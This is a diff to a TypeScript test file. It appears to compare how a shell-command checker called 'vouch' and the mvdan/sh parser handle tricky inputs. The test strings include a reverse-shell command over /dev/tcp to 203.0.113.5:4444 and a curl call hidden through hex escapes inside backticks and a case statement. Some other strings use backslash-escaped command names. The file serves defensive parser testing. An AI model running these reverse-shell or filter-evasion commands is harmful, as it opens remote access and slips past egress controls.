@@ -35,7 +35,12 @@ const EXPLAINED: Record<string, { right: 'vouch' | 'mvdan' | 'ambiguous'; why: s
   '0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196': { right: 'mvdan', why: 'the same `N<>` error' },
   'H=203.0.113.5; exec 5<>"/dev/tcp/$H/80"': { right: 'mvdan', why: 'the same `N<>` error' },
   '{ echo GET / >&3; } 3<>/dev/tcp/example.com/80': { right: 'mvdan', why: 'the same `N<>` error, on a group' },
-  '`printf cu``printf rl` x': { right: 'mvdan', why: 'adjacent backticks lowered as one substitution; vouch still denies (dynamic command)' },
+  "echo `case x in x) $'\\\\x63\\\\x75\\\\x72\\\\x6c' https://example.com;; esac`": {
+    right: 'vouch',
+    why: 'mvdan rejects `;;` inside backticks; bash runs the case and starts curl (the oracle sees it)',
+  },
+  'ls\n\\curl https://example.com': { right: 'mvdan', why: 'a backslashed word starting a line is dropped by the lowering (corpus gap egress-147)' },
+  '\\time -f %e curl https://example.com': { right: 'vouch', why: 'an escaped `time` is the program /usr/bin/time, which vouch peels as a wrapper: the names differ by the wrapper only' },
 };
 
 describe('parse differential against mvdan/sh', () => {
